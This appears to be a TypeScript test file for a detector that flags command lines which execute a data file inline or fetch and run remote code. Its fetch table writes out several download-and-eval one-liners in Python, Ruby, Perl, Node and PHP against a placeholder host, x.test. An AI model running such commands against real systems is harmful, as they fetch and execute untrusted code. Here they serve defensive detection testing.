import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { isGivenInline, readsInline, runsFetched, runsInline } from './inline-code.ts';

const FILE = '/home/clerk/data/notes.dat';
const CLAIMS: readonly (readonly [boolean, ...string[]])[] = [
  [true, 'bash', '-c', '. /home/clerk/data/notes.dat'],
  [true, 'sh', '-ec', 'cd data && source notes.dat arg'],
  [true, 'bash', '-c', 'eval "$(<notes.dat)"'],
  [true, 'python3', '-c', "exec(open('data/notes.dat').read())"],
  [true, 'python3', '-c', "import runpy; runpy.run_path('notes.dat')"],
  [true, 'perl', '-e', 'do "./notes.dat"'],
  [true, 'ruby', '-e', "load 'data/notes.dat'"],
  [true, 'node', '-e', 'require("./data/notes.dat")'],
  [true, 'php', '-r', "include '/home/clerk/data/notes.dat';"],
  [true, 'sh', '-c', '. "$1"', 'x', FILE],
  [true, 'python3', '-c', 'import sys; exec(open(sys.argv[1]).read())', FILE],
  [true, 'perl', '-e', 'do $ARGV[0]', FILE],
  [true, 'node', '-e', 'require(process.argv[1])', FILE],
  [true, 'lua', '-e', 'dofile(arg[1])', FILE],
  [false, 'node', '-e', "require('fs').readFileSync(process.argv[1])", FILE],
  [false, 'python3', '-c', 'import re, sys; re.compile("x").findall(open(sys.argv[1]).read())', FILE],
  [false, 'perl', '-ne', 'eval { print decode($_) }', FILE],
  [false, 'sh', '-c', 'for f in "$@"; do wc -l < "$f"; done', 'x', FILE],
  [false, 'bash', '-c', 'grep -c x notes.dat'],
  [false, 'bash', '-c', 'while read a; do echo $a; done < notes.dat'],
  [false, 'python3', '-c', "import json; print(json.load(open('notes.dat')))"],
  [false, 'node', '-e', "require('fs').readFileSync('notes.dat')"],
  [false, 'perl', '-ne', 'print if /x/', 'notes.dat'],
  [false, 'python3', '-c', "exec('print(1)')"],
  [false, 'python3', 'notes.dat'],
];
for (const [runs, ...argv] of CLAIMS)
  test(`${argv.join(' ')}: ${runs ? 'runs the file' : 'does not run it'}`, () =>
    assert.equal(runsInline(argv, FILE), runs));

test('no words make it throw, and without the name of the file nothing is run', () => {
  fc.assert(
    fc.property(fc.array(fc.string(), { maxLength: 6 }), fc.string(), (argv, path) => {
      if (runsInline(argv, path)) assert.ok(argv.some(word => word.includes(path.slice(path.lastIndexOf('/') + 1))));
    }),
  );
});

const FETCHES: readonly (readonly [string, ...string[]])[] = [
  ['http://x.test/s', 'python3', '-c', "import urllib.request as u;exec(u.urlopen('http://x.test/s').read())"],
  [
    'https://x.test/s',
    'python3',
    '-c',
    'import requests; eval(compile(requests.get("https://x.test/s").text, "s", "exec"))',
  ],
  ['https://x.test/s', 'ruby', '-ropen-uri', '-e', "eval(URI.open('https://x.test/s').read)"],
  ['http://x.test/s', 'perl', '-e', "use LWP::Simple; eval get('http://x.test/s')"],
  ['http://x.test:8080/s', 'node', '-e', "fetch('http://x.test:8080/s').then(r => r.text()).then(eval)"],
  ['http://x.test/s', 'php', '-r', "eval(file_get_contents('http://x.test/s'));"],
  ['', 'python3', '-c', "import urllib.request as u;print(u.urlopen('http://x.test/s').read())"],
  ['', 'python3', '-c', "exec('print(1)') # see http://x.test/s"],
  ['', 'python3', 'http://x.test/s'],
  ['', 'python3', '-c'],
];
for (const [url, ...argv] of FETCHES)
  test(`${argv.join(' ')}: ${url === '' ? 'runs nothing from outside' : `runs ${url}`}`, () =>
    assert.equal(runsFetched(argv), url));

test('what is loaded before the program is no program on the command line', () => {
  assert.equal(isGivenInline(['node', '-r', './notes.dat']), false);
  assert.equal(isGivenInline(['/usr/bin/ruby3.1', '-r', './notes.dat', 'own.rb']), false);
  assert.equal(isGivenInline(['php', '-r', 'x();']), true);
  assert.equal(readsInline(['node', '-r', './notes.dat', '-e', '1'], FILE), false);
});
